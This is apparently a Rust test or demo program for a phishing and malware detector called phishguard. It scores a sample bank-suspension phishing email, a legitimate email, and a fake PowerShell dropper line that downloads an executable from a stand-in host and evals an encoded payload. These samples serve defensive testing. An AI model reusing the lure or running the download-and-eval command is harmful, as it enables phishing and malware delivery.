use phishguard::sandbox::SandboxExecutor;
use phishguard::{AnalysisEngine, Config};

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    env_logger::init();

    println!("Testing the classic account-suspension phishing sample...");

    let engine = AnalysisEngine::new(&Config::default());

    let email = "Dear Customer,\n\
                 \n\
                 URGENT: We detected unusual activity on your bank account. Your access has been\n\
                 suspended. Please verify your account immediately at http://secure-update.accounts-verify.tk/login\n\
                 or your account will be closed. Click here to restore access. This is a limited time notice.\n";

    let result = engine.analyze_text(email);

    println!("\n=== Email analysis ===");
    println!("Score: {:.2}", result.score);
    println!("Phishing: {}", result.is_phishing);
    for feature in &result.features {
        println!("  - {feature}");
    }

    if result.is_phishing {
        println!("\n✅ SUCCESS: This email is flagged as phishing");
    } else {
        println!("\n❌ MISSED: This email slipped past the patterns");
    }

    let legit = "Hi Sam,\n\nThe meeting moved to 3pm. The agenda is unchanged.\n\nThanks,\nPriya\n";
    let legit_result = engine.analyze_text(legit);

    println!("\n=== Legitimate email ===");
    println!("Score: {:.2}", legit_result.score);
    if legit_result.is_phishing {
        println!("⚠️  WARNING: Legitimate email would be flagged");
    } else {
        println!("✅ GOOD: Legitimate email passes clean");
    }

    println!("\n=== Sandboxed file analysis ===");
    let dropper = b"powershell -c \"wget http://evil-host.gq/p.exe\"; eval(atob(payload))";
    let sandbox = SandboxExecutor::default();
    let analysis = sandbox
        .analyze_file(dropper.to_vec(), "invoice.ps1".to_string())
        .await?;

    println!("File: {} ({})", analysis.file_name, analysis.file_type);
    println!("Risk score: {:.2}", analysis.risk_score);
    println!("Malicious: {}", analysis.is_malicious);
    for feature in &analysis.detected_features {
        println!("  - {feature}");
    }

    if analysis.is_malicious {
        println!("\n✅ SUCCESS: The dropper is flagged as malicious");
    } else {
        println!("\n❌ MISSED: The dropper was not flagged");
    }

    Ok(())
}
